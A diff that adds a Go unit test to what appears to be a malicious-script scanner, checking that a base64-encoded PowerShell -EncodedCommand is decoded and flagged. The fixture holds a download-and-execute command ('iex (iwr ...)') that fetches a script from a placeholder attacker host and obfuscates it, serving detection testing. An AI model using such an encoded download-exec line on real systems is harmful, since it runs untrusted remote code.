@@ -275,3 +275,17 @@ func TestRuleCoverage(t *testing.T) {
 		}
 	}
 }
+
+// TestEncodedCommandIsRead: PowerShell's -EncodedCommand (base64 of
+// UTF-16LE) is decoded and what it runs is reported too.
+func TestEncodedCommandIsRead(t *testing.T) {
+	enc := base64.StdEncoding.EncodeToString(utf16Of("iex (iwr https://evil.example/a.ps1)", false))
+	r := scanFiles(map[string]string{"run.cmd": "powershell -NoProfile -EncodedCommand " + enc + "\n"})
+	found := false
+	for _, f := range r.Findings {
+		found = found || f.Rule == "download-exec.powershell" && strings.Contains(f.Message, "UTF-16")
+	}
+	if !found || !has(r, "encoded-payload.decode-exec", "run.cmd", 1) {
+		t.Errorf("the decoded command is not reported; findings:\n%s", findings(r))
+	}
+}
